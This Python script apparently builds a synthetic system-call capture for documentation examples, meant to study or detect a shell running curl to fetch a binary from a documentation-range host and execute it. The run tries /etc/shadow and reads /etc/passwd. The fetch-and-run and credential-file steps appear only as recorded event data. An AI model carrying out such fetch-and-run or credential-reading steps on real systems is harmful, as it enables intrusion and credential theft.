"""Makes the capture that the examples in docs/captures.md are about: somebody's shell fetches a program and runs it."""

from __future__ import annotations

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "bench"))

from workload import captures

#: A peer in a network for documentation: the tuple of a connection, from 10.0.0.5:40000 to 192.0.2.7:80.
_PEER = (
    b"\2" + bytes((10, 0, 0, 5)) + (40000).to_bytes(2, "little") + bytes((192, 0, 2, 7)) + (80).to_bytes(2, "little")
)
_SHELL, _CURL, _RUN = 1200, 1201, 1202
_LISTED = b"".join(
    captures.block(captures.PROCESSES, entry)
    for entry in (
        captures.thread(900, 900, 1, b"sshd", exe=b"sshd: anna", cwd=b"/"),
        captures.thread(_SHELL, _SHELL, 900, b"bash", exe=b"-bash", exepath=b"/bin/bash", cwd=b"/home/anna/"),
    )
)


def _forked(child: int) -> bytes:
    return captures.event("clone", _SHELL, res=child, exe=b"-bash", args=b"", tid=_SHELL, pid=_SHELL, ptid=900,
                          cwd=b"/home/anna/", comm=b"bash", uid=1000, gid=1000, vtid=_SHELL, vpid=_SHELL)  # fmt: skip


def _execed(tid: int, name: bytes, *arguments: bytes) -> bytes:
    return captures.event("execve", tid, res=0, exe=name, args=b"".join(word + b"\0" for word in arguments), tid=tid,
                          pid=tid, ptid=_SHELL, cwd=b"/home/anna/", comm=name.rpartition(b"/")[2][:15], uid=1000,
                          trusted_exepath=name if name[:1] == b"/" else b"/usr/bin/" + name)  # fmt: skip


def _read(tid: int, number: int, size: int) -> bytes:
    return captures.event("read", tid, res=size, data=bytes(min(size, 80)), fd=number, size=4096)


def _opened(tid: int, result: int, name: bytes, flags: int = 1) -> bytes:
    return captures.event("openat", tid, fd=result, dirfd=-100, name=name, flags=flags, mode=0, dev=1, ino=2)


def blocks() -> list[bytes]:
    """Return the blocks of the events, in order."""
    return [
        _forked(_CURL),
        _execed(_CURL, b"curl", b"-o", b"tool", b"http://192.0.2.7/tool"),
        _opened(_CURL, -2, b"/home/anna/.curlrc"),
        captures.event("socket", _CURL, fd=5, domain=2, type=1, proto=6),
        captures.event("connect", _CURL, res=0, tuple=_PEER, fd=5, addr=b""),
        captures.event("sendto", _CURL, res=78, data=b"GET /tool HTTP/1.1", fd=5, size=78, tuple=b""),
        *(_read(_CURL, 5, 1448) for _ in range(4)),
        _opened(_CURL, 6, b"/home/anna/tool", 2),
        *(captures.event("write", _CURL, res=2896, data=b"\x7fELF", fd=6, size=2896) for _ in range(2)),
        captures.event("procexit", _CURL, status=0, ret=0, sig=0, core=0, reaper_tid=0),
        _forked(_RUN),
        _execed(_RUN, b"/home/anna/tool", b"--all"),
        _opened(_RUN, -13, b"/etc/shadow"),
        _opened(_RUN, 3, b"/etc/passwd"),
        _read(_RUN, 3, 1312),
        captures.event("procexit", _RUN, status=0, ret=0, sig=0, core=0, reaper_tid=0),
    ]


def make(path: Path) -> None:
    """Write the capture."""
    events = (captures.at(captures.TS + number * 1_500_000, one) for number, one in enumerate(blocks()))
    users = captures.block(captures.USERS, captures.user(1000, b"anna"))
    path.write_bytes(captures.section() + _LISTED + users + b"".join(events))
